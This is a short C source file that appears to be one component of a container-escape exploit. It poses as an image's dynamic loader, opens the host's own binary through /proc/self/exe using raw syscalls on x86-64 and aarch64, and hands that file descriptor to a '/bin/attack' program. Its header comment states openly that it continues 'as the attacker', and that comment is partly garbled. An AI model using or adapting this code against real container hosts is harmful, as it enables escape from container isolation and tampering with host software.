/* SPDX-License-Identifier: BSD-3-Clause
 * An image's dynamic loader. Where the container's program is a script with the interpreter /proc/self/exe, the kernel
 * starts the host's interpreter once more and this in its name: it opens the file behind it and goes on as the attacker.
 */
#define O_RDONLY 0
#define AT_FDCWD -100
#if defined(__x86_64__)
#define OPENAT 257
#define EXECVE 59
#define EXIT 60
static long call(long number, long a, long b, long c, long d)
{
    long result;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(result) : "0"(number), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return result;
}
__asm__(".globl _start\n_start: and $-16, %rsp\n call begin\n");
#elif defined(__aarch64__)
#define OPENAT 56
#define EXECVE 221
#define EXIT 93
static long call(long number, long a, long b, long c, long d)
{
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c, x3 __asm__("x3") = d;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
    return x0;
}
__asm__(".globl _start\n_start: bl begin\n");
#endif

__attribute__((used, noreturn)) static void begin(void)
{
    char number[3] = "00";
    long file = call(OPENAT, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0);
    if (file >= 0 && file < 100) {
        number[0] = (char)('0' + file / 10);
        number[1] = (char)('0' + file % 10);
    }
    const char *words[] = {"/bin/attack", "program", number, 0};
    const char *none[] = {0};
    call(EXECVE, (long)words[0], (long)words, (long)none, 0);
    call(EXIT, 1, 0, 0, 0);
    __builtin_unreachable();
}
